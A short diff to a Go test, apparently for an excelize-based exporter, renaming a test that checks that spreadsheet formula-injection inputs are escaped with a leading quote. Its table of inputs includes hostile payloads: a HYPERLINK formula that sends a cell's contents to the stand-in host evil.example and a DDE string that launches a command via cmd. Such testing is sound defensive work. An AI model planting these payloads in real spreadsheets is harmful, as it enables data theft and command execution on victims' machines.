@@ -171,7 +171,7 @@ func readSheet(t *testing.T, book *excelize.File, name string, width int) [][]st
 	return rows
 }
 
-func TestFormulasAreDefused(t *testing.T) {
+func TestHoleV30FormulasAreDefused(t *testing.T) {
 	for in, want := range map[string]string{"": "", "a": "a", "1": "1", "'a": "'a", "“=": "“=", "a=1": "a=1", "é": "é",
 		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "=": "'=",
 		"=HYPERLINK(\"http://evil.example?\"&A1)": "'=HYPERLINK(\"http://evil.example?\"&A1)", "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0"} {
